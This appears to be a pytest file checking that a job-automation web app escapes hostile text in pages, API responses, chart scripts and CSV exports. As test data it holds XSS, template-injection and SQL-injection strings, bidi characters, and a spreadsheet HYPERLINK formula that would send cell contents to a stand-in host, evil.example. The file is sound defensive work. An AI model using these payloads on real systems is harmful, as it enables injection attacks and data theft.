"""Whatever people call their sites, and whatever else they type: it is text, and nothing ever runs it."""

import csv
import io
import json
import logging
import re
from html import unescape
from urllib.parse import quote

import pytest
from flask import Flask, render_template_string

from jobauto.clock import utcnow
from jobauto.detection.service import RunParameters, run
from jobauto.logs import OneLine, _in_pairs
from jobauto.spreadsheets import harmless
from tests.fleets import add_site, daily
from tests.pages import scenes
from tests.people import PASSWORD, Person

MARKUP = """</script><script>alert(1)</script><img src=x onerror=alert(1)>'"--><svg/onload=alert(1)>"""
TEXTS = {
    "markup": MARKUP,
    "a template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>{site_name.__class__}",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "characters of four bytes": "𝄞 🔆 𠜎",
    "marks from right to left": "roof \u202ednuorg\u202c \u200f\u2067",
    "SQL": "'; DROP TABLE site; --",
}
EACH_TEXT = pytest.mark.parametrize("hostile", TEXTS.values(), ids=TEXTS.keys())


@pytest.mark.any_engine
@EACH_TEXT
def test_it_is_shown_as_it_was_typed_on_every_page(
    app: Flask, ada: Person, hostile: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    fleet_called(hostile)
    type_everywhere(ada, hostile)
    seen = 0
    for address in (*scenes.PAGES, f"/sites/?q={quote(hostile)}", f"/audit/?who={quote(hostile)}"):
        page = ada.client.get(address)
        assert page.status_code == 200, address
        text = page.text
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        seen += hostile in unescape(text)
        for data in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL):
            json.loads(data)
    assert seen >= 5
    formatter = OneLine(_in_pairs)
    assert all("\n" not in formatter.format(record) for record in caplog.records)


@EACH_TEXT
def test_what_a_chart_is_given_cannot_end_its_script(app: Flask, hostile: str) -> None:
    chart = """{% call ui.chart("x", "label", {"name": hostile}) %}{% endcall %}"""
    page = """{% import "_macros.html" as ui %}""" + chart
    with app.test_request_context():
        html = render_template_string(page, hostile=hostile)
    (data,) = re.findall(r"<script[^>]*>(.*?)</script>", html, re.DOTALL)
    assert json.loads(data) == {"name": hostile}


@EACH_TEXT
def test_the_api_gives_it_back_unchanged(app: Flask, ada: Person, hostile: str) -> None:
    fleet_called(hostile)
    assert ada.api("GET", "/api/sites/FLAT/").json["site_name"] == hostile
    (job,) = ada.api("GET", "/api/jobs/").json["items"]
    assert job["site_name"] == hostile
    assert job["description"].endswith(f"at {hostile}")


@pytest.mark.any_engine
@EACH_TEXT
def test_a_spreadsheet_calculates_nothing(app: Flask, ada: Person, hostile: str) -> None:
    fleet_called(hostile)
    (row,) = csv.DictReader(io.StringIO(ada.get("/jobs/export.csv").text.removeprefix("\ufeff")))
    assert row["site_name"].lstrip("'") == hostile.lstrip("'")
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.any_engine
@pytest.mark.parametrize(
    "address", ["/sites.csv", "/readings.csv/%3Dcmd", "/report/report.csv", "/report/jobs.csv?number=open"]
)
def test_nor_does_it_of_any_other_file(app: Flask, ada: Person, address: str) -> None:
    now = utcnow()
    add_site("=cmd", daily([1234] * 5, now), site_name="+1", group="@SUM(A1)", source="-1")
    run(RunParameters(trigger="manual", requested_by="oscar"), utcnow)
    rows = list(csv.reader(io.StringIO(ada.get(address).text.removeprefix("\ufeff"))))
    cells = {cell for row in rows for cell in row}
    assert cells & {"'=cmd", "'@SUM(A1)"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"])
def test_a_cell_that_would_be_calculated_is_quoted(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "1", "a=b", "2026-03-31T06:00:00+00:00", "'=1+1"])
def test_other_cells_are_left_as_they_are(text: str) -> None:
    assert harmless(text) == text


def fleet_called(hostile: str) -> None:
    """A site that stands still, with a job."""
    now = utcnow()
    add_site("FLAT", daily([1234] * 5, now), site_name=hostile)
    run(RunParameters(trigger="manual", requested_by="oscar"), utcnow)


def type_everywhere(ada: Person, hostile: str) -> None:
    settings = "/api/job-automation/settings/"
    ada.api("PATCH", "/api/jobs/1/", json={"note": hostile})
    ada.api("PUT", settings, json={"NO_COMS": {"queue": hostile[:100], "instructions": hostile}})
    ada.post("/sites/FLAT", action="edit", site_name=hostile, group=hostile[:100], active="y")
    ada.post("/account", action="token", name=hostile[:100], confirm=PASSWORD)
    ada.post("/login", username=hostile, password=hostile)
